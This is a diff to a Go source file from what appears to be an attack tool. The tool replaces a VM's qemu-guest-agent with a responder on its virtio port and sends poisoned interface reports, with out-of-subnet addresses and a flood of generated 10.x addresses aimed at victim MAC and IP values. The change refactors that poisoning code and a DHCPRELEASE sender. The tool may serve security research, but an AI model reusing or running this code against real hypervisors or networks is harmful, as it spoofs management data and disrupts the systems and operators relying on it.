@@ -8,14 +8,12 @@ import (
 	"flag"
 	"fmt"
 	"io"
-	"net"
 	"os"
 	"os/exec"
 	"strings"
 	"time"
 
 	"github.com/insomniacslk/dhcp/dhcpv4"
-	"golang.org/x/sys/unix"
 )
 
 // agentCmd stops qemu-guest-agent and answers on its virtio port instead,
@@ -187,12 +185,8 @@ func interfacesReply(honest bool, victimMAC, victimIP string) []byte {
 			for _, ip := range PoisonOutOfSubnet {
 				addr("ipv4", ip, 24)
 			}
-			if as, err := ifc.Addrs(); err == nil {
-				for _, a := range as {
-					if n, ok := a.(*net.IPNet); ok && n.IP.To4() != nil {
-						addr("ipv4", n.IP.String(), 24)
-					}
-				}
+			if ip := nicIPv4(ifc); ip != nil {
+				addr("ipv4", ip.String(), 24)
 			}
 			for i := 0; i < PoisonFlood; i++ {
 				addr("ipv4", fmt.Sprintf("10.%d.%d.%d", 100+i/65536, i/256%256, i%256), 24)
@@ -215,29 +209,18 @@ func interfacesReply(honest bool, victimMAC, victimIP string) []byte {
 
 // releaseOwnLease sends a DHCPRELEASE for the NIC's address, as itself.
 func releaseOwnLease() error {
-	ifc, err := nic()
+	l, err := openLink()
 	if err != nil {
 		return err
 	}
-	var ip net.IP
-	if as, err := ifc.Addrs(); err == nil {
-		for _, a := range as {
-			if n, ok := a.(*net.IPNet); ok && n.IP.To4() != nil {
-				ip = n.IP.To4()
-			}
-		}
-	}
+	defer l.Close()
+	ip := nicIPv4(l.ifc)
 	if ip == nil {
 		return errors.New("no IPv4 address to release")
 	}
-	m, err := dhcpv4.New(dhcpv4.WithMessageType(dhcpv4.MessageTypeRelease), dhcpv4.WithHwAddr(ifc.HardwareAddr), dhcpv4.WithClientIP(ip))
+	m, err := dhcpv4.New(dhcpv4.WithMessageType(dhcpv4.MessageTypeRelease), dhcpv4.WithHwAddr(l.ifc.HardwareAddr), dhcpv4.WithClientIP(ip))
 	if err != nil {
 		return err
 	}
-	fd, err := rawSocket(ifc)
-	if err != nil {
-		return err
-	}
-	defer unix.Close(fd)
-	return sendDHCP(fd, ifc, ifc.HardwareAddr, m)
+	return l.sendDHCP(l.ifc.HardwareAddr, m)
 }
